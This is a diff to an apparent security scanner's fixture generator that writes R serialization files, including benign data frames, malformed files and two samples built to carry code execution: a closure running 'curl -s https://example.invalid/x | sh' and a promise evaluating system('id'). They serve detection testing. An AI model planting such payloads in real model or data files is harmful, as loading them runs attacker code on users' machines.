@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), TorchServe .mar
-(fixtures/torchserve/), and more as they come.
+(fixtures/torchserve/), R serializations (fixtures/rds/, written field by field as R's serialize.c
+does, since R is not installed), and more as they come.
 
 Needs Debian's python3-torch for the PyTorch checkpoints inside the archives. Every output is
 deterministic (fixed times, no user names), so a regeneration that changes bytes is a real change.
@@ -9,8 +10,9 @@ expected-rules.json lists the rule ids each fixture must produce.
 """
 import gzip
 import io
+import lzma
 import json
-import pickle
+import struct
 import tarfile
 import zipfile
 from pathlib import Path
@@ -185,6 +187,137 @@ def torchserve():
     f.finish()
 
 
+class RWriter:
+    """R serialization format 3, XDR, as saveRDS writes it (before compression)."""
+
+    def __init__(self):
+        self.buf = bytearray(b"X\n")
+        self.refs = {}
+        self.i(3)
+        self.i(0x040301)  # written by R 4.3.1
+        self.i(0x030500)  # readable from R 3.5.0
+        self.i(5)
+        self.buf += b"UTF-8"
+
+    def i(self, v):
+        self.buf += struct.pack(">i", v)
+        return self
+
+    def flags(self, t, obj=False, attr=False, tag=False, levels=0):
+        return self.i(t | (obj << 8) | (attr << 9) | (tag << 10) | (levels << 12))
+
+    def nil(self):
+        return self.i(254)
+
+    def chars(self, s):
+        b = s.encode()
+        self.flags(9, levels=64).i(len(b))
+        self.buf += b
+        return self
+
+    def sym(self, name):
+        if name in self.refs:
+            return self.i((self.refs[name] << 8) | 255)
+        self.i(1).chars(name)
+        self.refs[name] = len(self.refs) + 1
+        return self
+
+    def strs(self, *values, attrs=None):
+        self.flags(16, attr=attrs is not None).i(len(values))
+        for v in values:
+            self.chars(v)
+        return self.attrs(attrs)
+
+    def reals(self, *values, attrs=None):
+        self.flags(14, attr=attrs is not None).i(len(values))
+        for v in values:
+            self.buf += struct.pack(">d", v)
+        return self.attrs(attrs)
+
+    def ints(self, *values):
+        self.flags(13).i(len(values))
+        for v in values:
+            self.i(v)
+        return self
+
+    def attrs(self, attrs):
+        if attrs is not None:
+            self.pairlist(attrs)
+        return self
+
+    def pairlist(self, items, t=2):
+        """items: (tag or None, writer callback) pairs."""
+        for tag, value in items:
+            self.flags(t, tag=tag is not None)
+            if tag is not None:
+                self.sym(tag)
+            value()
+        return self.nil()
+
+    def vlist(self, names, values, cls=None, extra=()):
+        attrs = [("names", lambda: self.strs(*names))] + list(extra)
+        if cls:
+            attrs.append(("class", lambda: self.strs(cls)))
+        self.flags(19, obj=cls is not None, attr=True).i(len(values))
+        for v in values:
+            v()
+        return self.attrs(attrs)
+
+    def call(self, fn, *args):
+        """A call fn(args...): LANGSXP whose CAR is the symbol, CDR the argument pairlist."""
+        self.flags(6)
+        self.sym(fn)
+        return self.pairlist([(None, a) for a in args])
+
+    def closure(self, formals, body):
+        self.flags(3, tag=True)
+        self.i(253)  # environment: the global one
+        self.pairlist([(f, lambda: self.i(251)) for f in formals])  # missing defaults
+        return body()
+
+
+def data_frame(w):
+    w.vlist(["x", "y"], [lambda: w.reals(1.5, 2.5, 3.5), lambda: w.strs("a", "b", "c")],
+            cls="data.frame", extra=[("row.names", lambda: w.ints(-2147483648, -3))])
+
+
+def rds():
+    f = Folder("rds")
+    w = RWriter()
+    data_frame(w)
+    f.write("benign-data-frame.rds", gzip.compress(bytes(w.buf), mtime=0))
+    w = RWriter()
+    # A fitted-model-like list: coefficients and the formula y ~ x (a call object, not code to fear).
+    formula = lambda: (w.flags(6, obj=True, attr=True), w.pairlist(
+        [("class", lambda: w.strs("formula")), (".Environment", lambda: w.i(253))]),
+        w.sym("~"), w.pairlist([(None, lambda: w.sym("y")), (None, lambda: w.sym("x"))]))
+    w.vlist(["coefficients", "formula"],
+            [lambda: w.reals(0.5, 2.0, attrs=[("names", lambda: w.strs("(Intercept)", "x"))]),
+             formula], cls="lm")
+    f.write("benign-lm-formula.rds", lzma.compress(bytes(w.buf), format=lzma.FORMAT_XZ))
+    w = RWriter()
+    body = lambda: w.call("{", lambda: w.call("system", lambda: w.strs("curl -s https://example.invalid/x | sh")))
+    w.vlist(["weights", "predict"], [lambda: w.reals(0.1, 0.2), lambda: w.closure(["newdata"], body)],
+            cls="model")
+    f.write("malicious-closure-system.rds", gzip.compress(bytes(w.buf), mtime=0), ["RDS-001", "RDS-002"])
+    w = RWriter()
+    w.buf = bytearray(b"RDX3\n") + w.buf
+    # save(m, file=...): a pairlist of variables; m is a promise that evaluates eval(parse(text=...)).
+    promise = lambda: (w.flags(5, tag=True), w.i(253), w.i(252),
+                       w.call("eval", lambda: w.call("parse", lambda: w.strs("system('id')"))))
+    w.pairlist([("m", promise)])
+    f.write("malicious-promise-eval.RData", gzip.compress(bytes(w.buf), mtime=0), ["RDS-001", "RDS-002"])
+    w = RWriter()
+    data_frame(w)
+    f.write("malformed-truncated.rds", bytes(w.buf)[:60], ["CORE-001"])
+    w = RWriter()
+    w.flags(14).i(0x7FFFFFFF)
+    w.buf += bytes(16)
+    f.write("malformed-huge-vector.rds", bytes(w.buf), ["CORE-001"])
+    f.finish()
+
+
 if __name__ == "__main__":
     nemo()
     torchserve()
+    rds()
